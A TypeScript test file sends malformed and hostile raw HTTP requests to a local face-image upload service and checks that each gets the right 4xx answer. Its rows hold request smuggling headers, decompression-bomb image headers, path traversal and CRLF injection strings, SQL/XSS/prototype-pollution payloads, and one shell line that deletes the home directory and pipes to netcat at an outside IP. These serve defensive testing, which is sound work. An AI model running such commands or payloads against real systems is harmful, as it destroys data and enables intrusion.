// Malformed and hostile requests against the real local stack, one table row each, sent as raw HTTP. Each must get
// the right 4xx (or the right per-image error inside a 201/422) with a message saying what to fix: never a 5xx, a
// crash or a hang. After the whole table, a good request must still work.
import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalStack } from '../../local/stack.js';
import { startTemporaryStack, type TemporaryStack } from '../support/temporary-stack.js';
import { EXTERNAL_IMAGE_ID_PATTERN } from '../../lambda/core/naming.js';
import { fixture } from './support/fixtures.js';
import { rawMultipart, type Part } from './support/multipart.js';
import { createOneFaceEngine } from './support/one-face-engine.js';
import { abandonRequest, rawRequest, type RawRequest, type RawResponse } from './support/raw-http.js';
import { storedKeys } from './support/stack-stores.js';

/** Short, so the stalled-body row is answered quickly. */
const REQUEST_TIMEOUT_MS = 2000;

let stack: LocalStack;
let running: TemporaryStack;
let photo: Buffer;
let smallJpeg: Buffer;
let onePixelPng: Buffer;
let onePixelJpeg: Buffer;

beforeAll(async () => {
  running = await startTemporaryStack('bad-input', { faceEngine: createOneFaceEngine(), requestTimeoutMs: REQUEST_TIMEOUT_MS });
  ({ stack } = running);
  photo = await fixture('single_face_frontal.jpg');
  const pixel = sharp({ create: { width: 1, height: 1, channels: 3, background: '#808080' } });
  onePixelPng = await pixel.clone().png().toBuffer();
  onePixelJpeg = await pixel.clone().jpeg().toBuffer();
  smallJpeg = await sharp({ create: { width: 120, height: 120, channels: 3, background: '#808080' } }).jpeg().toBuffer();
}, 60_000);

afterAll(async () => {
  await running?.stop();
});

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A well-formed PNG header declaring any size, with a token image data chunk: a decompression bomb's header. */
function pngDeclaring(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small baseline JPEG with its frame header (SOF0) rewritten to declare another size. */
function jpegDeclaring(width: number, height: number): Buffer {
  const copy = Buffer.from(smallJpeg);
  const sof = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, sof + 5);
  copy.writeUInt16BE(width, sof + 7);
  return copy;
}

const BOUNDARY = 'facegate-bad-input-boundary';
/** Quotes, CR and LF in names escaped as browsers escape them in FormData; everything else sent as is. */
const escapeName = (name: string) => name.replaceAll('"', '%22').replaceAll('\r', '%0D').replaceAll('\n', '%0A');
const image = (fileName: string, bytes: Uint8Array, contentType = 'image/jpeg'): Part => ({ name: 'inputImages[]', fileName: escapeName(fileName), contentType, bytes });
const collection = (value = 'bad-input'): Part => ({ name: 'collection', value });

/** A multipart request with the dev token (unless other headers are given) and a correct Content-Type. */
function formRequest(parts: Part[], extra: Partial<RawRequest> = {}): RawRequest {
  const { body } = rawMultipart(parts, BOUNDARY);
  return {
    headers: [
      ['Authorization', stack.token],
      ['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`],
    ],
    body,
    ...extra,
  };
}

const withToken = (token: string, parts: Part[] = [image('a.jpg', photo), collection()]): RawRequest => ({
  ...formRequest(parts),
  headers: [
    ['Authorization', token],
    ['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`],
  ],
});

const withContentType = (contentType: string | undefined, body: Uint8Array | string): RawRequest => ({
  headers: [['Authorization', stack.token], ...(contentType === undefined ? [] : [['Content-Type', contentType] as [string, string]])],
  body,
});

/** One text part written by hand, for names and values rawMultipart cannot express. */
const rawPart = (head: string, content: string | Uint8Array) =>
  Buffer.concat([Buffer.from(`--${BOUNDARY}\r\n${head}\r\n\r\n`, 'latin1'), Buffer.from(content), Buffer.from('\r\n')]);
const closing = Buffer.from(`--${BOUNDARY}--\r\n`);

interface Expectation {
  status: number;
  /** error.code of a refused request, or data[0].Error.Code of a per-image failure. */
  code?: string;
  /** What the message must say (the fix). */
  message?: RegExp;
  /** Extra checks on a processed answer. */
  check?: (response: RawResponse) => void | Promise<void>;
}

interface Row {
  name: string;
  request: () => RawRequest;
  expect: Expectation;
}

const safeExternalImageId = (response: RawResponse) => {
  const id = response.json.data[0].FaceRecords[0].Face.ExternalImageId as string;
  expect(id).toMatch(EXTERNAL_IMAGE_ID_PATTERN);
  expect(id).not.toMatch(/[/\\]|\.\./);
};

const processedWithSafeName: Expectation = { status: 201, check: safeExternalImageId };
const invalidCollection: Expectation = { status: 400, code: 'INVALID_COLLECTION', message: /1 to 100 characters of letters, digits/ };
const unauthorized: Expectation = { status: 401, code: 'UNAUTHORIZED', message: /Send the token you were given/ };
const badHttp: Expectation = { status: 400, code: 'BAD_REQUEST', message: /HTTP/ };
const headerRefused: Expectation = { status: 400, code: 'MALFORMED_MULTIPART', message: /Rename the file/ };

const ROWS: Row[] = [
  // Content type and framing
  { name: 'no Content-Type', request: () => withContentType(undefined, rawMultipart([image('a.jpg', photo), collection()], BOUNDARY).body), expect: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', message: /multipart\/form-data/ } },
  { name: 'a JSON body', request: () => withContentType('application/json', JSON.stringify({ collection: 'x', inputImages: ['a.jpg'] })), expect: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', message: /FormData/ } },
  { name: 'multipart/mixed', request: () => withContentType(`multipart/mixed; boundary=${BOUNDARY}`, rawMultipart([collection()], BOUNDARY).body), expect: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' } },
  { name: 'no boundary, and a body that is not multipart', request: () => withContentType('multipart/form-data', 'collection=x&inputImages=y'), expect: { status: 400, code: 'MALFORMED_MULTIPART', message: /boundary/ } },
  { name: 'a declared boundary the body does not use, nor any other', request: () => withContentType('multipart/form-data; boundary=other', 'just text\r\n'), expect: { status: 400, code: 'MALFORMED_MULTIPART', message: /boundary/ } },
  { name: 'an empty body', request: () => withContentType(`multipart/form-data; boundary=${BOUNDARY}`, ''), expect: { status: 400, code: 'MALFORMED_MULTIPART' } },
  { name: 'a body cut off in the middle of a file', request: () => { const request = formRequest([collection(), image('a.jpg', photo)]); return { ...request, body: (request.body as Buffer).subarray(0, 20_000) }; }, expect: { status: 400, code: 'MALFORMED_MULTIPART', message: /could not be read/ } },
  { name: 'a body cut off inside part headers', request: () => ({ ...formRequest([]), body: Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; na`) }), expect: { status: 400, code: 'MALFORMED_MULTIPART' } },
  { name: 'no closing delimiter', request: () => ({ ...formRequest([]), body: Buffer.concat([rawPart('Content-Disposition: form-data; name="collection"', 'bad-input')]) }), expect: { status: 400, code: 'MALFORMED_MULTIPART' } },
  { name: 'a body shorter than its Content-Length, then silence', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), cutBodyAt: 1000 }), expect: { status: 408, code: 'REQUEST_TIMEOUT', message: /shorter than its Content-Length/ } },
  { name: 'a 20 KB header', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), headers: [...formRequest([]).headers!, ['X-Padding', 'p'.repeat(20 * 1024)]] }), expect: { status: 431, code: 'HEADERS_TOO_LARGE', message: /headers/ } },
  { name: 'a 20 KB URL', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), path: `/ia/faces/bulkUpload?${'q'.repeat(20 * 1024)}` }), expect: { status: 431, code: 'HEADERS_TOO_LARGE' } },
  { name: 'both Content-Length and Transfer-Encoding (request smuggling)', request: () => ({ framing: 'manual', headers: [['Authorization', stack.token], ['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`], ['Content-Length', '4'], ['Transfer-Encoding', 'chunked']], body: '0\r\n\r\n' }), expect: badHttp },
  { name: 'malformed chunked encoding', request: () => ({ framing: 'manual', headers: [['Authorization', stack.token], ['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`], ['Transfer-Encoding', 'chunked']], body: 'zz\r\nhello\r\n0\r\n\r\n' }), expect: badHttp },
  { name: 'a Content-Length that is not a number', request: () => ({ framing: 'manual', headers: [['Authorization', stack.token], ['Content-Length', 'abc']], body: '' }), expect: badHttp },
  { name: 'a NUL byte in a header value', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), headers: [...formRequest([]).headers!, ['X-Evil', 'a\0b']] }), expect: badHttp },
  { name: 'GET on the upload path', request: () => ({ method: 'GET', headers: [['Authorization', stack.token]] }), expect: { status: 404, code: 'NOT_FOUND', message: /POST \/ia\/faces\/bulkUpload/ } },
  { name: 'a path traversal in the URL', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), path: '/ia/faces/%2e%2e/%2e%2e/etc/passwd' }), expect: { status: 404, code: 'NOT_FOUND' } },

  // Form structure
  { name: 'thousands of text fields', request: () => formRequest([...Array.from({ length: 5000 }, (_, index) => ({ name: `field${index}`, value: 'x' })), image('a.jpg', photo), collection()]), expect: { status: 413, code: 'TOO_MANY_PARTS', message: /only inputImages\[\] files and one collection field/ } },
  { name: 'thousands of file parts', request: () => formRequest([collection(), ...Array.from({ length: 3000 }, (_, index) => image(`${index}.jpg`, new Uint8Array(0)))]), expect: { status: 413, code: 'TOO_MANY_IMAGES', message: /at most 50 per request/ } },
  { name: '51 images', request: () => formRequest([collection(), ...Array.from({ length: 51 }, (_, index) => image(`${index}.jpg`, onePixelPng, 'image/png'))]), expect: { status: 413, code: 'TOO_MANY_IMAGES' } },
  { name: 'a part without Content-Disposition', request: () => ({ ...formRequest([]), body: Buffer.concat([rawPart('Content-Type: image/jpeg', photo), rawPart('Content-Disposition: form-data; name="collection"', 'bad-input'), closing]) }), expect: { status: 400, code: 'NO_IMAGES', message: /inputImages\[\]/ } },
  { name: 'a part header line of 100 KB', request: () => ({ ...formRequest([]), body: Buffer.concat([rawPart(`Content-Disposition: form-data; name="inputImages[]"; filename="${'n'.repeat(100 * 1024)}.jpg"`, photo), rawPart('Content-Disposition: form-data; name="collection"', 'bad-input'), closing]) }), expect: { status: 400 } },
  { name: 'a file under another field name', request: () => formRequest([{ name: 'photo', fileName: 'a.jpg', contentType: 'image/jpeg', bytes: photo }, collection()]), expect: { status: 400, code: 'UNEXPECTED_FILE_FIELD', message: /images go under "inputImages\[\]"/ } },
  { name: 'the collection sent as a file', request: () => formRequest([image('a.jpg', photo), { name: 'collection', fileName: 'c.txt', contentType: 'text/plain', bytes: Buffer.from('bad-input') }]), expect: { status: 400, code: 'UNEXPECTED_FILE_FIELD' } },
  { name: 'a FileList appended as text', request: () => formRequest([{ name: 'inputImages[]', value: '[object FileList]' }, collection()]), expect: { status: 400, code: 'IMAGES_SENT_AS_TEXT', message: /Append each file on its own/ } },
  { name: 'an image sent as a data URL', request: () => formRequest([{ name: 'inputImages[]', value: `data:image/jpeg;base64,${photo.toString('base64').slice(0, 1000)}` }, collection()]), expect: { status: 400, code: 'IMAGES_SENT_AS_TEXT', message: /file part/ } },
  { name: 'no image', request: () => formRequest([collection()]), expect: { status: 400, code: 'NO_IMAGES' } },
  { name: 'no collection', request: () => formRequest([image('a.jpg', photo)]), expect: { status: 400, code: 'MISSING_COLLECTION', message: /add one text field/ } },
  { name: 'two collection fields', request: () => formRequest([image('a.jpg', photo), collection('one'), collection('two')]), expect: { status: 400, code: 'INVALID_COLLECTION', message: /send exactly one/ } },
  { name: 'an empty collection', request: () => formRequest([image('a.jpg', photo), collection('')]), expect: invalidCollection },
  { name: 'a collection of 300 characters', request: () => formRequest([image('a.jpg', photo), collection('c'.repeat(300))]), expect: invalidCollection },
  { name: 'a collection of unicode', request: () => formRequest([image('a.jpg', photo), collection('équipe-📸-社員')]), expect: invalidCollection },
  { name: 'a collection with a path traversal', request: () => formRequest([image('a.jpg', photo), collection('../other-tenant/collection')]), expect: invalidCollection },
  { name: 'a collection of 100 KB', request: () => formRequest([image('a.jpg', photo), collection('c'.repeat(100 * 1024))]), expect: invalidCollection },

  // Image content
  { name: 'an empty file', request: () => formRequest([image('empty.jpg', new Uint8Array(0)), collection()]), expect: { status: 422, code: 'EMPTY_IMAGE', message: /re-upload/ } },
  { name: 'a 1-pixel PNG', request: () => formRequest([image('pixel.png', onePixelPng, 'image/png'), collection()]), expect: { status: 422, code: 'IMAGE_TOO_SMALL', message: /at least 80 px/ } },
  { name: 'a 1-pixel JPEG', request: () => formRequest([image('pixel.jpg', onePixelJpeg), collection()]), expect: { status: 422, code: 'IMAGE_TOO_SMALL', message: /Upload a larger photo/ } },
  { name: 'a PNG declaring 50000 × 50000 pixels', request: () => formRequest([image('bomb.png', pngDeclaring(50_000, 50_000), 'image/png'), collection()]), expect: { status: 422, code: 'IMAGE_TOO_LARGE', message: /50000x50000/ } },
  { name: 'a JPEG declaring 65535 × 65535 pixels', request: () => formRequest([image('bomb.jpg', jpegDeclaring(65_535, 65_535)), collection()]), expect: { status: 422, code: 'IMAGE_TOO_LARGE', message: /65535x65535/ } },
  { name: 'a PNG declaring 0 × 0 pixels', request: () => formRequest([image('zero.png', pngDeclaring(0, 0), 'image/png'), collection()]), expect: { status: 422, code: 'IMAGE_TOO_SMALL' } },
  { name: 'a text file named .jpg', request: () => formRequest([image('notes.jpg', Buffer.from('not an image at all'), 'image/jpeg'), collection()]), expect: { status: 422, code: 'UNSUPPORTED_IMAGE_FORMAT', message: /Convert it to JPEG or PNG/ } },
  { name: 'a truncated JPEG', request: () => formRequest([image('half.jpg', photo.subarray(0, photo.length / 2)), collection()]), expect: { status: 422, code: 'CORRUPT_IMAGE', message: /export or download it again/ } },
  { name: 'a bare PNG signature', request: () => formRequest([image('sig.png', pngDeclaring(1, 1).subarray(0, 8), 'image/png'), collection()]), expect: { status: 422, code: 'CORRUPT_IMAGE' } },
  { name: 'a GIF', request: () => formRequest([image('anim.gif', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), 'image/gif'), collection()]), expect: { status: 422, code: 'UNSUPPORTED_IMAGE_FORMAT', message: /GIF/ } },

  // File names: stored under their content hash, indexed under a name Rekognition accepts
  { name: 'a file name with ../ path traversal', request: () => formRequest([image('../../../etc/passwd.jpg', photo), collection()]), expect: processedWithSafeName },
  { name: 'a file name with Windows path traversal', request: () => formRequest([image('..\\..\\windows\\system32\\evil.jpg', photo), collection()]), expect: processedWithSafeName },
  { name: 'an absolute file name', request: () => formRequest([image('/var/task/index.jpg', photo), collection()]), expect: processedWithSafeName },
  { name: 'control characters and a terminal escape in a file name', request: () => formRequest([image('red\x01\x1b[31m\x7f.jpg', photo), collection()]), expect: headerRefused },
  { name: 'a NUL byte in a file name', request: () => formRequest([image('a\0b.jpg', photo), collection()]), expect: headerRefused },
  { name: 'raw CRLF in a file name (a part header injection)', request: () => ({ ...formRequest([]), body: Buffer.concat([rawPart('Content-Disposition: form-data; name="inputImages[]"; filename="evil.jpg"\r\nX-Injected: yes\r\nContent-Type: text/html', photo), rawPart('Content-Disposition: form-data; name="collection"', 'bad-input'), closing]) }), expect: processedWithSafeName },
  { name: 'quotes, CR and LF in a file name, escaped as browsers do', request: () => formRequest([image('my "best"\r\nphoto.jpg', photo), collection()]), expect: processedWithSafeName },
  { name: 'a file name of 5000 characters', request: () => formRequest([image(`${'n'.repeat(5000)}.jpg`, photo), collection()]), expect: processedWithSafeName },

  // Injection strings in every field
  ...[
    ["SQL", "x' OR '1'='1'; DROP TABLE faces; --"],
    ['shell', '$(rm -rf ~); `reboot` | nc 1.2.3.4 80'],
    ['JSON', '{"$ne": null, "__proto__": {"admin": true}}'],
    ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script>'],
    ['NUL', 'faces\0admin'],
    ['CRLF', 'faces\r\nX-Injected: yes'],
  ].flatMap(([kind, payload]): Row[] => {
    // A NUL byte cannot be escaped in a part header: the whole form is refused, saying so.
    const inPartHeader = kind === 'NUL' ? headerRefused : undefined;
    return [
      { name: `${kind} injection in the collection`, request: () => formRequest([image('a.jpg', photo), collection(payload)]), expect: invalidCollection },
      { name: `${kind} injection in a file name`, request: () => formRequest([image(`${payload}.jpg`, photo), collection()]), expect: inPartHeader ?? processedWithSafeName },
      { name: `${kind} injection in an extra field`, request: () => formRequest([image('a.jpg', photo), collection(), { name: escapeName(payload!), value: payload! }]), expect: inPartHeader ?? { status: 201 } },
      { name: `${kind} injection in a part's Content-Type`, request: () => formRequest([image('a.jpg', photo, payload!.replace(/[\r\n]/g, ' ')), collection()]), expect: inPartHeader ?? { status: 201 } },
      { name: `${kind} injection as the token`, request: () => withToken(payload!.replace(/[\r\n\0]/g, ' ')), expect: unauthorized },
    ];
  }),

  // Tokens
  { name: 'no Authorization header', request: () => ({ ...formRequest([image('a.jpg', photo), collection()]), headers: [['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`]] }), expect: unauthorized },
  { name: 'a token with spaces', request: () => withToken('my token with spaces'), expect: unauthorized },
  { name: 'the real token with spaces inside', request: () => withToken(`${stack.token.slice(0, 10)} ${stack.token.slice(10)}`), expect: unauthorized },
  { name: 'a token of 10 KB', request: () => withToken('t'.repeat(10 * 1024)), expect: unauthorized },
  { name: 'Bearer without a token', request: () => withToken('Bearer '), expect: unauthorized },
  { name: 'Basic credentials', request: () => withToken(`Basic ${Buffer.from('admin:admin').toString('base64')}`), expect: unauthorized },
  { name: "the SHA-256 of the real token (a stored hash is no credential)", request: () => withToken(createHash('sha256').update(stack.token).digest('hex')), expect: unauthorized },
  { name: 'the real token with one more character', request: () => withToken(`${stack.token}x`), expect: unauthorized },
];

async function verify(row: Row): Promise<void> {
  const response = await rawRequest(stack.url, row.request());
  const context = `${row.name}: ${response.status} ${response.body.slice(0, 400)}`;
  expect(response.status, context).toBe(row.expect.status);
  expect(response.headers['content-type'], context).toMatch(/^application\/json/);
  const body = response.json;
  expect(body, context).toBeTypeOf('object');
  if (response.status !== 201) expect(body.message, context).toMatch(/\w+ \w+ \w+/);
  if (row.expect.code) {
    const code = body.error?.code === 'NO_IMAGE_INDEXED' ? body.data[0].Error.Code : body.error?.code;
    expect(code, context).toBe(row.expect.code);
  }
  if (row.expect.message) {
    const message = body.error?.code === 'NO_IMAGE_INDEXED' ? body.data[0].Error.Message : body.message;
    expect(message, context).toMatch(row.expect.message);
  }
  await row.expect.check?.(response);
}

describe('malformed and hostile requests', () => {
  it('has at least 40 rows', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(ROWS.map((row) => [row.name, row] as const))('answers %s correctly', async (_name, row) => {
    await verify(row);
  });

  it('keeps every original under its content hash, whatever the file names', async () => {
    for (const key of await storedKeys(stack)) expect(key).toMatch(/^tenants\/[^/]+\/collections\/bad-input\/[0-9a-f]{64}\.(jpg|png)$/);
  });

  it('shrugs off clients that disconnect mid-upload', async () => {
    const upload = formRequest([image('a.jpg', photo), collection()]);
    await Promise.all([100, 5000, 30_000].map((cutBodyAt) => abandonRequest(stack.url, { ...upload, cutBodyAt })));
    expect((await fetch(`${stack.url}/health`, { signal: AbortSignal.timeout(5000) })).status).toBe(200);
  });

  it('still serves a good request after all of them', async () => {
    const response = await rawRequest(stack.url, formRequest([image('after-the-table.jpg', photo), collection('after-bad-input')]));
    expect(response.status).toBe(201);
    expect(response.json.message).toBe('Bulk indexing is now completed successfuly');
    expect(response.json.data[0].FaceRecords[0].Face.ExternalImageId).toBe('after-the-table.jpg');
  });
});
